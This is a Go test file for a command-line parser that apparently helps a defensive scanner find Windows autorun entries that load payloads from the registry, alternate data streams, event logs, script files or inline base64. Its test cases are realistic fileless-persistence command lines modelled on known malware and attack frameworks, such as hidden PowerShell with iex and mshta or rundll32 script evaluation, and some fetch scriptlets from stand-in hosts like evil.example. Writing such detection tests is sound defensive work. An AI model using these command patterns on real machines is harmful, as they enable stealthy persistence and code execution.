package cmdline

import (
	"reflect"
	"testing"

	"github.com/runkeyhunt/runkeyhunt/tables/registry"
)

// testEnv is what a user's environment would expand the tests' variables to.
var testEnv = map[string]string{
	"APPDATA":    `C:\Users\u\AppData\Roaming`,
	"ComSpec":    `C:\Windows\system32\cmd.exe`,
	"SystemRoot": `C:\Windows`,
	"windir":     `C:\Windows`,
	"TEMP":       `C:\Users\u\AppData\Local\Temp`,
}

func reg(text, key, name string) Ref {
	return Ref{Kind: KindRegistry, Text: text, Key: key, ValueName: name}
}
func ads(text, path string) Ref    { return Ref{Kind: KindADS, Text: text, Path: path} }
func file(text, path string) Ref   { return Ref{Kind: KindFile, Text: text, Path: path} }
func inline(text, data string) Ref { return Ref{Kind: KindInline, Text: text, Data: data} }
func evt(text, log string, id int) Ref {
	return Ref{Kind: KindEventLog, Text: text, Log: log, EventID: id}
}

const (
	b64Short = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"
	b64Long  = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
)

// maliciousCases has one case per reference form the package recognises.
var maliciousCases = []struct {
	name string
	line string
	want []Ref
}{
	// --- gp / Get-ItemProperty / gpv / Get-ItemPropertyValue ---
	{"empire registry (seed)",
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -c "$x=$((gp HKCU:Software\Microsoft\Windows\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x"`,
		[]Ref{reg(`(gp HKCU:Software\Microsoft\Windows\CurrentVersion Debug).Debug`, `HKCU:Software\Microsoft\Windows\CurrentVersion`, "Debug")}},
	{"empire registry elevated",
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -c "$x=$((gp HKLM:SOFTWARE\Microsoft\Windows\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x"`,
		[]Ref{reg(`(gp HKLM:SOFTWARE\Microsoft\Windows\CurrentVersion Debug).Debug`, `HKLM:SOFTWARE\Microsoft\Windows\CurrentVersion`, "Debug")}},
	{"gp quoted key then member",
		`powershell -c "(gp 'HKLM:\SOFTWARE\x').y"`,
		[]Ref{reg(`(gp 'HKLM:\SOFTWARE\x').y`, `HKLM:\SOFTWARE\x`, "y")}},
	{"Get-ItemProperty named parameters",
		`powershell -c "(Get-ItemProperty -Path HKCU:\Software\x -Name y).y"`,
		[]Ref{reg(`(Get-ItemProperty -Path HKCU:\Software\x -Name y).y`, `HKCU:\Software\x`, "y")}},
	{"gp piped to select -exp",
		`powershell -c "gp HKCU:\Software\x | select -exp y | iex"`,
		[]Ref{reg(`gp HKCU:\Software\x | select -exp y`, `HKCU:\Software\x`, "y")}},
	{"Select-Object -ExpandProperty",
		`powershell -c "iex (Get-ItemProperty HKCU:\Software\x | Select-Object -ExpandProperty 'code')"`,
		[]Ref{reg(`Get-ItemProperty HKCU:\Software\x | Select-Object -ExpandProperty 'code'`, `HKCU:\Software\x`, "code")}},
	{"foreach member",
		`powershell -c "gp HKCU:\Software\x | %{$_.y}|iex"`,
		[]Ref{reg(`gp HKCU:\Software\x | %{$_.y}`, `HKCU:\Software\x`, "y")}},
	{"Get-ItemPropertyValue literal path",
		`powershell -nop -c "iex (Get-ItemPropertyValue -LiteralPath 'Registry::HKEY_CURRENT_USER\Software\x' -Name 'payload')"`,
		[]Ref{reg(`Get-ItemPropertyValue -LiteralPath 'Registry::HKEY_CURRENT_USER\Software\x' -Name 'payload'`, `Registry::HKEY_CURRENT_USER\Software\x`, "payload")}},
	{"gpv positional",
		`powershell iex (gpv HKCU:\Software\x y)`,
		[]Ref{reg(`gpv HKCU:\Software\x y`, `HKCU:\Software\x`, "y")}},
	{"parameter with colon value and abbreviations",
		`powershell -c "iex (GET-ITEMPROPERTY -pa HKCU:\Software\x -n:y -ea 0).y"`,
		[]Ref{reg(`(GET-ITEMPROPERTY -pa HKCU:\Software\x -n:y -ea 0).y`, `HKCU:\Software\x`, "y")}},
	{"gp result in a variable",
		`powershell -c "$r = gp HKCU:\Software\x; iex $r.payload"`,
		[]Ref{reg(`gp HKCU:\Software\x`, `HKCU:\Software\x`, "payload")}},
	{"gp default value spelled (default)",
		`powershell -c "iex (gp HKCU:\Software\x '(default)').'(default)'"`,
		[]Ref{reg(`(gp HKCU:\Software\x '(default)').'(default)'`, `HKCU:\Software\x`, "")}},
	{"powersploit Add-Persistence",
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NonInteractive -WindowStyle Hidden -c "IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKCU:Software\Microsoft\Windows\CurrentVersion\Run Updater).Updater)))"`,
		[]Ref{reg(`(gp HKCU:Software\Microsoft\Windows\CurrentVersion\Run Updater).Updater`, `HKCU:Software\Microsoft\Windows\CurrentVersion\Run`, "Updater")}},
	{"gp with the name in a variable is not followed", `powershell -c "iex (gp HKCU:\Software\x $n).$n"`, nil},
	{"gp of a whole key is not followed", `powershell -c "gp HKCU:\Software\x | fl"`, nil},
	{"gp of a file system path is not a registry read", `powershell -c "(gp C:\Windows\notepad.exe).Length"`, nil},
	// --- .GetValue ---
	{"metasploit registry_persistence",
		`%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c "sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String((Get-Item 'HKCU:Software\Microsoft\Windows\CurrentVersion\Run').GetValue('abc')),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"`,
		[]Ref{reg(`(Get-Item 'HKCU:Software\Microsoft\Windows\CurrentVersion\Run').GetValue('abc')`, `HKCU:Software\Microsoft\Windows\CurrentVersion\Run`, "abc")}},
	{"Get-Item GetValue default",
		`powershell -c "iex (gi HKCU:\Software\x).GetValue('')"`,
		[]Ref{reg(`(gi HKCU:\Software\x).GetValue('')`, `HKCU:\Software\x`, "")}},
	{"Registry::GetValue",
		`powershell -c "iex ([Microsoft.Win32.Registry]::GetValue('HKEY_CURRENT_USER\Software\x','n',$null))"`,
		[]Ref{reg(`[Microsoft.Win32.Registry]::GetValue('HKEY_CURRENT_USER\Software\x','n',$null)`, `HKEY_CURRENT_USER\Software\x`, "n")}},
	{"Registry::GetValue doubled backslashes",
		`powershell -c "iex ([Microsoft.Win32.Registry]::GetValue(\"HKEY_CURRENT_USER\\Software\\x\", \"n\", $null))"`,
		[]Ref{reg(`[Microsoft.Win32.Registry]::GetValue(\"HKEY_CURRENT_USER\\Software\\x\", \"n\", $null)`, `HKEY_CURRENT_USER\\Software\\x`, "n")}},
	{"CurrentUser.OpenSubKey.GetValue",
		`powershell -c "iex [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\x').GetValue('n')"`,
		[]Ref{reg(`[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Software\x').GetValue('n')`, `HKCU\Software\x`, "n")}},
	{"short Win32.Registry LocalMachine",
		`powershell -c "iex [Win32.Registry]::LocalMachine.OpenSubKey(\"SOFTWARE\x\", $false).GetValue(\"n\")"`,
		[]Ref{reg(`[Win32.Registry]::LocalMachine.OpenSubKey(\"SOFTWARE\x\", $false).GetValue(\"n\")`, `HKLM\SOFTWARE\x`, "n")}},
	{"OpenBaseKey chain in a variable",
		`powershell -c "$k=[Microsoft.Win32.RegistryKey]::OpenBaseKey('CurrentUser','Registry64').OpenSubKey('Software').OpenSubKey('x');iex $k.GetValue('n')"`,
		[]Ref{reg(`[Microsoft.Win32.RegistryKey]::OpenBaseKey('CurrentUser','Registry64').OpenSubKey('Software').OpenSubKey('x')`, `HKCU\Software\x`, "n")}},
	// --- reg query ---
	{"reg query /v",
		`cmd /c reg query HKCU\Software\x /v payload`,
		[]Ref{reg(`reg query HKCU\Software\x /v payload`, `HKCU\Software\x`, "payload")}},
	{"reg.exe query quoted key /ve",
		`C:\Windows\System32\reg.exe query "HKEY_CURRENT_USER\Software\x y" /ve`,
		[]Ref{reg(`reg.exe query "HKEY_CURRENT_USER\Software\x y" /ve`, `HKEY_CURRENT_USER\Software\x y`, "")}},
	{"reg query inside for /f",
		`cmd /c for /f "tokens=2*" %a in ('reg query "HKCU\Software\x" /v data') do powershell -enc %b`,
		[]Ref{reg(`reg query "HKCU\Software\x" /v data`, `HKCU\Software\x`, "data")}},
	// --- RegRead ---
	{"poweliks rundll32 javascript default value",
		`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();r=new%20ActiveXObject("WScript.Shell").RegRead("HKCU\\software\\microsoft\\windows\\currentversion\\run\\");eval(r);`,
		[]Ref{reg(`RegRead("HKCU\\software\\microsoft\\windows\\currentversion\\run\\")`, `HKCU\software\microsoft\windows\currentversion\run`, "")}},
	{"kovter mshta javascript",
		`mshta javascript:kcXUa8="GBP";L5d=new%20ActiveXObject("WScript.Shell");tc7m=L5d.RegRead("HKCU\\software\\9b6b0f6e7a\\df1c6c9a");eval(tc7m);close()`,
		[]Ref{reg(`RegRead("HKCU\\software\\9b6b0f6e7a\\df1c6c9a")`, `HKCU\software\9b6b0f6e7a`, "df1c6c9a")}},
	{"RegRead odd value name with escapes",
		`mshta "javascript:o=new ActiveXObject('WScript.Shell');eval(o.RegRead('HKCU\\Software\\Wow\\\u0001x #%!'));close()"`,
		[]Ref{reg(`RegRead('HKCU\\Software\\Wow\\\u0001x #%!')`, `HKCU\Software\Wow`, "\x01x #%!")}},
	{"RegRead vbscript doubled quotes",
		`mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run CreateObject(""WScript.Shell"").RegRead(""HKCU\Software\x\y""):close")`,
		[]Ref{reg(`RegRead(""HKCU\Software\x\y"")`, `HKCU\Software\x`, "y")}},
	{"RegRead vbscript default value",
		`mshta vbscript:CreateObject("WScript.Shell").Run(CreateObject("WScript.Shell").RegRead("HKLM\SOFTWARE\x\"),0)(window.close)`,
		[]Ref{reg(`RegRead("HKLM\SOFTWARE\x\")`, `HKLM\SOFTWARE\x`, "")}},
	{"RegRead kernel path spelling",
		`mshta javascript:eval(new ActiveXObject("WScript.Shell").RegRead("\\REGISTRY\\USER\\S-1-5-21-1-2-3-1001\\Software\\x\\y"))`,
		[]Ref{reg(`RegRead("\\REGISTRY\\USER\\S-1-5-21-1-2-3-1001\\Software\\x\\y")`, `\REGISTRY\USER\S-1-5-21-1-2-3-1001\Software\x`, "y")}},
	// --- alternate data streams ---
	{"empire ads",
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -c "$x=$(cmd /c ''more < C:\Users\Public\x.txt:payload'');powershell -Win Hidden -enc $x"`,
		[]Ref{ads(`more < C:\Users\Public\x.txt:payload`, `C:\Users\Public\x.txt:payload`)}},
	{"more with env path",
		`cmd /c more<%APPDATA%\x:y | powershell -`,
		[]Ref{ads(`more<%APPDATA%\x:y`, `C:\Users\u\AppData\Roaming\x:y`)}},
	{"Get-Content -Stream",
		`powershell -c "iex (Get-Content -Stream s C:\x\y.txt -Raw)"`,
		[]Ref{ads(`Get-Content -Stream s C:\x\y.txt -Raw`, `C:\x\y.txt:s`)}},
	{"gc -Stream after path",
		`powershell -c "gc C:\x\y.txt -Stream s | iex"`,
		[]Ref{ads(`gc C:\x\y.txt -Stream s`, `C:\x\y.txt:s`)}},
	{"gc path with stream",
		`powershell -c "iex (gc C:\x\y.txt:s -raw)"`,
		[]Ref{ads(`gc C:\x\y.txt:s -raw`, `C:\x\y.txt:s`)}},
	{"type stream",
		`cmd /c type C:\x\y.txt:s:$DATA | powershell -`,
		[]Ref{ads(`type C:\x\y.txt:s:$DATA`, `C:\x\y.txt:s`)}},
	{"wscript on a stream",
		`wscript c:\x:y.vbs`,
		[]Ref{ads(`c:\x:y.vbs`, `c:\x:y.vbs`)}},
	{"mshta on a stream",
		`mshta.exe "c:\programdata\x:y.hta"`,
		[]Ref{ads(`c:\programdata\x:y.hta`, `c:\programdata\x:y.hta`)}},
	{"powershell -File on a stream",
		`powershell -ep bypass -File c:\x:y.ps1`,
		[]Ref{ads(`c:\x:y.ps1`, `c:\x:y.ps1`)}},
	{"rundll32 on a stream",
		`rundll32 c:\x:y.dll,Entry`,
		[]Ref{ads(`c:\x:y.dll`, `c:\x:y.dll`)}},
	{"wmic creating a process from a stream",
		`wmic process call create "C:\x\y.txt:evil.exe"`,
		[]Ref{ads(`C:\x\y.txt:evil.exe`, `C:\x\y.txt:evil.exe`)}},
	// --- event log ---
	{"empire eventlog",
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -c "$x=$([Text.Encoding]::ASCII.GetString(@((Get-Eventlog -LogName Application | ?{$_.eventid -eq 4242}))[0].data));powershell -Win Hidden -enc $x"`,
		[]Ref{evt(`Get-Eventlog -LogName Application | ?{$_.eventid -eq 4242`, "Application", 4242)}},
	{"Get-EventLog -InstanceId",
		`powershell -c "iex ([Text.Encoding]::ASCII.GetString((Get-EventLog 'Windows PowerShell' -InstanceId 31337 -Newest 1).Data))"`,
		[]Ref{evt(`Get-EventLog 'Windows PowerShell' -InstanceId 31337 -Newest 1`, "Windows PowerShell", 31337)}},
	{"Get-EventLog without a log name",
		`powershell -c "(Get-EventLog -Newest 1 -Source WSH)[0].Data"`,
		[]Ref{evt(`Get-EventLog -Newest 1 -Source WSH`, "Application", 0)}},
	{"Get-WinEvent FilterHashtable",
		`powershell -c "Get-WinEvent -FilterHashtable @{LogName='Application';Id=4242} -MaxEvents 1"`,
		[]Ref{evt(`Get-WinEvent -FilterHashtable @{LogName='Application';Id=4242} -MaxEvents 1`, "Application", 4242)}},
	{"Get-WinEvent with Where-Object",
		`powershell -c "(Get-WinEvent -LogName 'Windows PowerShell' | ? {$_.Id -eq 400})[0].Properties"`,
		[]Ref{evt(`Get-WinEvent -LogName 'Windows PowerShell' | ? {$_.Id -eq 400`, "Windows PowerShell", 400)}},
	{"Get-WinEvent FilterXPath",
		`powershell -c "Get-WinEvent -FilterXPath '*[System[EventID=4242]]' -LogName System"`,
		[]Ref{evt(`Get-WinEvent -FilterXPath '*[System[EventID=4242]]' -LogName System`, "System", 4242)}},
	// --- script files ---
	{"powershell -File",
		`powershell.exe -ExecutionPolicy Bypass -fi C:\ProgramData\u.ps1`,
		[]Ref{file(`C:\ProgramData\u.ps1`, `C:\ProgramData\u.ps1`)}},
	{"powershell -f with env path",
		`%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe -w hidden -f "%APPDATA%\u.ps1"`,
		[]Ref{file(`%APPDATA%\u.ps1`, `C:\Users\u\AppData\Roaming\u.ps1`)}},
	{"powershell bare .ps1",
		`powershell -nop C:\Users\Public\a.ps1`,
		[]Ref{file(`C:\Users\Public\a.ps1`, `C:\Users\Public\a.ps1`)}},
	{"pwsh default is -File",
		`pwsh -NoLogo C:\tools\start.ps1`,
		[]Ref{file(`C:\tools\start.ps1`, `C:\tools\start.ps1`)}},
	{"wscript host options skipped",
		`wscript.exe //B //E:jscript "C:\Users\x\AppData\Roaming\a b\run.txt"`,
		[]Ref{file(`C:\Users\x\AppData\Roaming\a b\run.txt`, `C:\Users\x\AppData\Roaming\a b\run.txt`)}},
	{"cscript",
		`C:\Windows\System32\cscript.exe //nologo C:\x\y.js`,
		[]Ref{file(`C:\x\y.js`, `C:\x\y.js`)}},
	{"mshta local hta",
		`mshta C:\Users\Public\x.hta`,
		[]Ref{file(`C:\Users\Public\x.hta`, `C:\Users\Public\x.hta`)}},
	{"mshta URL is not a file", `mshta http://evil.example/x.hta`, nil},
	{"cmd /c batch",
		`cmd.exe /c "C:\Users\x\AppData\Local\Temp\run me.bat"`,
		[]Ref{file(`C:\Users\x\AppData\Local\Temp\run me.bat`, `C:\Users\x\AppData\Local\Temp\run me.bat`)}},
	{"cmd /c start script",
		`%ComSpec% /q /c start "" C:\Users\Public\x.vbs`,
		[]Ref{file(`C:\Users\Public\x.vbs`, `C:\Users\Public\x.vbs`)}},
	{"rundll32 user DLL",
		`rundll32.exe "C:\Users\Public\evil lib.dll",DllRegisterServer`,
		[]Ref{file(`C:\Users\Public\evil lib.dll`, `C:\Users\Public\evil lib.dll`)}},
	{"regsvr32 local scriptlet",
		`regsvr32 /s /u /i:C:\Users\Public\x.sct scrobj.dll`,
		[]Ref{file(`C:\Users\Public\x.sct`, `C:\Users\Public\x.sct`)}},
	{"regsvr32 URL scriptlet is not a file", `regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll`, nil},
	{"script as the image",
		`C:\Users\x\AppData\Roaming\upd.vbs`,
		[]Ref{file(`C:\Users\x\AppData\Roaming\upd.vbs`, `C:\Users\x\AppData\Roaming\upd.vbs`)}},
	{"call operator on a script",
		`powershell.exe -NoProfile -WindowStyle Hidden -Command "& 'C:\Users\Public\s.ps1'"`,
		[]Ref{file(`C:\Users\Public\s.ps1`, `C:\Users\Public\s.ps1`)}},
	{"dot-sourced script",
		`powershell -c ". C:\ProgramData\s.ps1; Start-Thing"`,
		[]Ref{file(`C:\ProgramData\s.ps1`, `C:\ProgramData\s.ps1`)}},
	{"gc script piped to iex",
		`powershell -c "gc C:\ProgramData\x.txt | iex"`,
		[]Ref{file(`gc C:\ProgramData\x.txt`, `C:\ProgramData\x.txt`)}},
	// --- inline ---
	{"-e", `powershell.exe -nop -w hidden -e ` + b64Short, []Ref{inline(`-e `+b64Short, b64Short)}},
	{"-EncodedCommand", `powershell -EncodedCommand ` + b64Short, []Ref{inline(`-EncodedCommand `+b64Short, b64Short)}},
	{"-enco", `powershell -NoP -NonI -W Hidden -Exec Bypass -enco "` + b64Short + `"`, []Ref{inline(`-enco "`+b64Short+`"`, b64Short)}},
	{"-ec", `pwsh -ec ` + b64Short, []Ref{inline(`-ec `+b64Short, b64Short)}},
	{"/enc", `powershell /enc ` + b64Short, []Ref{inline(`/enc `+b64Short, b64Short)}},
	{"en dash", `powershell.exe -nop –enc ` + b64Short, []Ref{inline(`–enc `+b64Short, b64Short)}},
	{"-enc with a variable is not inline", `powershell -Win Hidden -enc $x`, nil},
	{"FromBase64String literal",
		`powershell -c "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('` + b64Long + `')))"`,
		[]Ref{inline(`FromBase64String('`+b64Long+`')`, b64Long)}},
	{"short FromBase64String literal is not a payload",
		`powershell -c "[Convert]::FromBase64String('aGVsbG8=')"`, nil},
	// --- nesting ---
	{"cmd start wrapping powershell",
		`cmd.exe /c start /min powershell -w hidden -c "(gp HKCU:\Software\x y).y|iex"`,
		[]Ref{reg(`(gp HKCU:\Software\x y).y`, `HKCU:\Software\x`, "y")}},
	{"comspec wrapping encoded powershell",
		`%COMSPEC% /c "powershell -enc ` + b64Short + `"`,
		[]Ref{inline(`-enc `+b64Short, b64Short)}},
	{"several references in order",
		`powershell -c "iex (gp HKCU:\Software\a b).b; iex (gc C:\x\y.txt -Stream z); iex (gp HKCU:\Software\a b).b"`,
		[]Ref{
			reg(`(gp HKCU:\Software\a b).b`, `HKCU:\Software\a`, "b"),
			ads(`gc C:\x\y.txt -Stream z`, `C:\x\y.txt:z`),
		}},
}

func TestExtractRefs(t *testing.T) {
	if len(maliciousCases) < 40 {
		t.Fatalf("only %d cases", len(maliciousCases))
	}
	for _, tc := range maliciousCases {
		t.Run(tc.name, func(t *testing.T) {
			got := ExtractRefs(tc.line, testEnv)
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("ExtractRefs(%s)\n got %#v\nwant %#v", tc.line, got, tc.want)
			}
			checkRefs(t, tc.line, got)
		})
	}
}

// TestRegistryKeysParse checks that every registry spelling the extractor
// returns resolves with the shared registry path parser.
func TestRegistryKeysParse(t *testing.T) {
	wantRoot := map[string]registry.Root{
		`HKCU:Software\Microsoft\Windows\CurrentVersion`: registry.HKCU,
		`HKLM:\SOFTWARE\x`:                                   registry.HKLM,
		`Registry::HKEY_CURRENT_USER\Software\x`:             registry.HKCU,
		`HKEY_CURRENT_USER\\Software\\x`:                     registry.HKCU,
		`HKCU\Software\x`:                                    registry.HKCU,
		`HKLM\SOFTWARE\x`:                                    registry.HKLM,
		`\REGISTRY\USER\S-1-5-21-1-2-3-1001\Software\x`:      registry.HKU,
		`HKCU\software\microsoft\windows\currentversion\run`: registry.HKCU,
	}
	seen := map[string]bool{}
	for _, tc := range maliciousCases {
		for _, r := range ExtractRefs(tc.line, testEnv) {
			if r.Kind != KindRegistry {
				continue
			}
			p, ok := registry.ParsePath(r.Key)
			if !ok {
				t.Errorf("%s: registry.ParsePath(%q) failed", tc.name, r.Key)
				continue
			}
			if root, ok := wantRoot[r.Key]; ok {
				seen[r.Key] = true
				if p.Root != root {
					t.Errorf("%s: %q parsed to root %s, want %s", tc.name, r.Key, p.Root, root)
				}
			}
		}
	}
	for k := range wantRoot {
		if !seen[k] {
			t.Errorf("no case produced key spelling %q", k)
		}
	}
}

// benignLines are autoruns found on ordinary Windows machines: none reads a
// payload from elsewhere.
var benignLines = []string{
	`C:\Windows\system32\SecurityHealthSystray.exe`,
	`%windir%\system32\SecurityHealthSystray.exe`,
	`"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`,
	`"C:\Users\x\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /thfirstsetup`,
	`"C:\Users\x\AppData\Local\Microsoft\Teams\Update.exe" --processStart "Teams.exe" --process-start-args "--system-initiated"`,
	`%ProgramFiles%\Windows Defender\MSASCuiL.exe`,
	`"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe" -n vmusr`,
	`RtkNGUI64.exe -s`,
	`"C:\Program Files\Realtek\Audio\HDA\RtkNGUI64.exe" -s`,
	`"C:\Program Files\Google\Chrome\Application\chrome.exe" --no-startup-window --win-session-start /prefetch:5`,
	`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window --win-session-start /prefetch:5`,
	// A DLL in System32 run by rundll32 is Windows' (or a driver's) own
	// component, not a payload: no reference.
	`rundll32.exe C:\Windows\System32\LogiLDA.dll,LogiFetch`,
	`C:\Windows\system32\userinit.exe,`,
	`explorer.exe`,
	`C:\Program Files\Common Files\Java\Java Update\jusched.exe`,
	`"C:\Program Files\iTunes\iTunesHelper.exe"`,
	`C:\Windows\System32\ctfmon.exe`,
	`"C:\Program Files\Docker\Docker\Docker Desktop.exe" -Autostart`,
	`"C:\Users\x\AppData\Roaming\Spotify\Spotify.exe" --autostart --minimized`,
	`"C:\Program Files (x86)\Steam\steam.exe" -silent`,
	`"C:\Program Files\Dropbox\Client\Dropbox.exe" /systemstartup`,
	`C:\Windows\System32\rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL`,
	`rundll32.exe url.dll,FileProtocolHandler https://example.com/`,
	`%SystemRoot%\system32\rundll32.exe %SystemRoot%\system32\WININET.dll,DispatchAPICall 1`,
	`C:\Windows\System32\cmd.exe /c start "" "C:\Program Files\App\app.exe"`,
	`"C:\Program Files\App\app.exe" --start-time 12:30 --log C:\logs\app.log --listen=127.0.0.1:8080`,
	`"C:\Program Files\App\app.exe" "C:\Program Files\App\config file.ini" --proxy "C:\Tools\p.exe host:80"`,
	`"C:\Program Files\NVIDIA Corporation\NvContainer\nvcontainer.exe" -s NvContainerLocalSystem -f "C:\ProgramData\NVIDIA\NvContainerLocalSystem.log"`,
	`"C:\Program Files\Adobe\Acrobat DC\Acrobat\AdobeCollabSync.exe"`,
	`"C:\Program Files\Zoom\bin\Zoom.exe" --url=zoommtg://zoom.us/join?action=join`,
	`C:\WINDOWS\system32\igfxpers.exe -type gp -cat logs`,
	`"C:\Program Files\Microsoft Office\root\Office16\lync.exe" /fromrunkey`,
	`"C:\Program Files\Greenshot\Greenshot.exe" /config:C:\Users\x\greenshot.ini`,
}

func TestExtractRefsBenign(t *testing.T) {
	if len(benignLines) < 20 {
		t.Fatalf("only %d benign lines", len(benignLines))
	}
	for _, line := range benignLines {
		if got := ExtractRefs(line, testEnv); len(got) != 0 {
			t.Errorf("ExtractRefs(%s) = %#v, want none", line, got)
		}
	}
}

func TestExtractRefsEmpty(t *testing.T) {
	for _, line := range []string{"", "   ", "\t\r\n", `""`, `"`} {
		if got := ExtractRefs(line, nil); got != nil {
			t.Errorf("ExtractRefs(%q) = %#v, want nil", line, got)
		}
	}
}

func TestSplitStream(t *testing.T) {
	tests := []struct {
		in, file, stream string
		ok               bool
	}{
		{`C:\x\y.txt:s`, `C:\x\y.txt`, "s", true},
		{`C:\x\y.txt:s:$DATA`, `C:\x\y.txt`, "s", true},
		{`c:\x:y.vbs`, `c:\x`, "y.vbs", true},
		{`file.txt:stream`, `file.txt`, "stream", true},
		{`\\server\share\f:s`, `\\server\share\f`, "s", true},
		{`\\?\C:\x\f:s`, `\\?\C:\x\f`, "s", true},
		{`C:\x\y.txt`, "", "", false},
		{`C:`, "", "", false},
		{`C:stream`, "", "", false},
		{`C:\x\:s`, "", "", false},
		{`C:\x\y:`, "", "", false},
		{`C:\x\y:s:z`, "", "", false},
		{`HKCU:Software\x`, "", "", false},
		{`env:APPDATA`, "", "", false},
		{`http://evil/x`, "", "", false},
		{`javascript:"\..\mshtml`, "", "", false},
		{`Registry::HKEY_CURRENT_USER\x`, "", "", false},
		{`Microsoft.PowerShell.Core\Registry::HKEY_CURRENT_USER\x`, "", "", false},
	}
	for _, tc := range tests {
		f, s, ok := splitStream(tc.in)
		if f != tc.file || s != tc.stream || ok != tc.ok {
			t.Errorf("splitStream(%q) = %q, %q, %v; want %q, %q, %v", tc.in, f, s, ok, tc.file, tc.stream, tc.ok)
		}
	}
}
